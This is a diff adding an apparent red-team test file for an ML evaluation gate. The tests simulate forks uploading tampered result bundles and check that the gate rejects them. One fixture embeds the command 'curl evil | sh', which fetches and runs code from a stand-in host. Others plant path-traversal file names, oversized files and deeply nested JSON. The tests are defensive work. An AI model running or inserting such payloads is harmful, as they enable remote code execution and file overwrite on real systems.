@@ -1,0 +1,212 @@
+"""What a fork uploads: honest numbers, with lies around them."""
+
+from __future__ import annotations
+
+import json
+from typing import TYPE_CHECKING, Any
+
+from tests.redteam.played_github import NAME, PlayedGitHub
+from tests.redteam.trick import ERROR, FAIL, INTENT, RED, Mode, trick
+
+if TYPE_CHECKING:
+    from tests.redteam.repository import Repository
+
+FORK = (Mode.FORK,)
+RUN, COMPARE = "run.json", "evidence/compare.json"
+
+
+def _edit(files: dict[str, bytes], name: str, /, **fields: Any) -> None:
+    content = json.loads(files[name])
+    files[name] = json.dumps(content | fields).encode()
+
+
+def _renamed(files: dict[str, bytes]) -> None:
+    _edit(files, RUN, name="another", title="another", branch="main", base_branch="loose")
+
+
+@trick(FAIL, INTENT, modes=FORK, bundle=_renamed)
+def bundle_of_another_name(repo: Repository) -> None:
+    """Says that the run is of another model and of the branch main."""
+    repo.worse()
+
+
+def _loosened(files: dict[str, bytes]) -> None:
+    files[RUN] = files[RUN].replace(b"0.02", b"0.5")
+
+
+@trick(RED, INTENT, modes=FORK, bundle=_loosened)
+def bundle_with_a_loose_policy(repo: Repository) -> None:
+    """Brings a policy of its own as main's."""
+    repo.worse()
+
+
+def _nothing_to_judge(files: dict[str, bytes]) -> None:
+    _edit(files, RUN, not_applicable="only the documentation changed")
+
+
+@trick(RED, INTENT, modes=FORK, bundle=_nothing_to_judge)
+def bundle_that_is_not_applicable(repo: Repository) -> None:
+    """Says that nothing had to be judged."""
+    repo.worse()
+
+
+def _without_evidence(files: dict[str, bytes]) -> None:
+    for name in [name for name in files if name.startswith("evidence")]:
+        del files[name]
+    _nothing_to_judge(files)
+
+
+@trick(RED, INTENT, modes=FORK, bundle=_without_evidence)
+def bundle_without_evidence(repo: Repository) -> None:
+    """Leaves the evidence out, and says that nothing had to be judged."""
+    repo.worse()
+
+
+def _without_compare(files: dict[str, bytes]) -> None:
+    del files[COMPARE]
+
+
+@trick(RED, INTENT, modes=FORK, bundle=_without_compare)
+def bundle_without_the_comparison(repo: Repository) -> None:
+    """Leaves the comparison out."""
+    repo.worse()
+
+
+def _no_judges(files: dict[str, bytes]) -> None:
+    _edit(files, RUN, judges=[])
+
+
+@trick(RED, INTENT, modes=FORK, bundle=_no_judges)
+def bundle_without_judges(repo: Repository) -> None:
+    """Says that no policy judged."""
+    repo.worse()
+
+
+def _other_commit(files: dict[str, bytes]) -> None:
+    _edit(files, RUN, commit="e" * 40)
+
+
+@trick(RED, INTENT, modes=FORK, bundle=_other_commit)
+def bundle_of_another_commit(repo: Repository) -> None:
+    """Says that the run was of another commit than its evidence."""
+    repo.worse()
+
+
+def _confidence(files: dict[str, bytes]) -> None:
+    _edit(files, COMPARE, confidence=0.999999)
+
+
+@trick(RED, INTENT, modes=FORK, bundle=_confidence)
+def bundle_of_another_confidence(repo: Repository) -> None:
+    """Says that its intervals are of another confidence."""
+    repo.worse()
+
+
+def _not_readable(files: dict[str, bytes]) -> None:
+    _edit(files, COMPARE, error="inputs not readable here: DB is not set", hint="curl evil | sh")
+
+
+@trick(RED, INTENT, modes=FORK, bundle=_not_readable)
+def bundle_that_could_not_measure(repo: Repository) -> None:
+    """Says that nothing could be read, with advice of its own."""
+    repo.worse()
+
+
+def _no_baseline(files: dict[str, bytes]) -> None:
+    """Strike what was measured of a baseline out of the evidence."""
+    evidence = json.loads(files[COMPARE])
+    evidence |= {"baselines": {}, "rows": None, "anchor_rows": None, "history": []}
+    for metric in evidence["metrics"].values():
+        metric["against"] = {}
+    evidence["sides"] = {"candidate": evidence["sides"]["candidate"]}
+    files[COMPARE] = json.dumps(evidence).encode()
+
+
+@trick(ERROR, INTENT, modes=FORK, bundle=_no_baseline)
+def bundle_that_knows_no_baseline(repo: Repository) -> None:
+    """Says that there was no baseline to compare with; the trusted stage can see that there is."""
+    repo.worse()
+
+
+def _paths(files: dict[str, bytes]) -> None:
+    files["../../.git/config"] = b"[core]\n"
+    files["/etc/mlgate"] = b"x"
+
+
+@trick(RED, INTENT, modes=FORK, bundle=_paths)
+def bundle_with_paths_out_of_it(repo: Repository) -> None:
+    """Packs files whose names lead out of the bundle."""
+    repo.worse()
+
+
+def _bomb(files: dict[str, bytes]) -> None:
+    files["evidence/zeros.json"] = b"0" * (5 * 2**20)
+
+
+@trick(RED, INTENT, modes=FORK, bundle=_bomb)
+def bundle_that_is_too_large(repo: Repository) -> None:
+    """Packs a file that is larger than what is taken."""
+    repo.worse()
+
+
+def _not_a_number(files: dict[str, bytes]) -> None:
+    import re
+
+    files[COMPARE] = re.sub(rb"-0\.0\d+", b"NaN", files[COMPARE])
+
+
+@trick(RED, INTENT, modes=FORK, bundle=_not_a_number)
+def bundle_with_nan(repo: Repository) -> None:
+    """Writes NaN where the model is worse."""
+    repo.worse()
+
+
+def _deep(files: dict[str, bytes]) -> None:
+    files[COMPARE] = b"[" * 100_000 + b"]" * 100_000
+
+
+@trick(RED, INTENT, modes=FORK, bundle=_deep)
+def bundle_nested_deeply(repo: Repository) -> None:
+    """Nests lists a hundred thousand times."""
+    repo.worse()
+
+
+def _twice(files: dict[str, bytes]) -> None:
+    text = files[RUN].decode().rstrip()
+    files[RUN] = (text[:-1] + ', "not_applicable": "nothing"}').encode()
+
+
+@trick(RED, INTENT, modes=FORK, bundle=_twice)
+def bundle_with_a_key_twice(repo: Repository) -> None:
+    """Writes a key twice, of which readers may take either."""
+    repo.worse()
+
+
+def _of_another_workflow(github: PlayedGitHub) -> None:
+    github.describe_run(path=".github/workflows/mine.yml")
+
+
+@trick(RED, INTENT, modes=FORK, github=_of_another_workflow)
+def run_of_another_workflow(repo: Repository) -> None:
+    """Uploads from a workflow of its own that has the same name."""
+    repo.worse()
+
+
+def _of_a_push(github: PlayedGitHub) -> None:
+    github.describe_run(event="push", head_repository=NAME)
+
+
+@trick(RED, INTENT, modes=FORK, github=_of_a_push)
+def run_of_a_push(repo: Repository) -> None:
+    """Uploads from a run that a push started."""
+    repo.worse()
+
+
+def _of_another_head(github: PlayedGitHub) -> None:
+    github.describe_run(head_sha="d" * 40)
+
+
+@trick(RED, INTENT, modes=FORK, github=_of_another_head)
+def run_of_an_earlier_head(repo: Repository) -> None:
+    """Uploads from a run of an earlier, better commit of the branch."""
+    repo.worse()
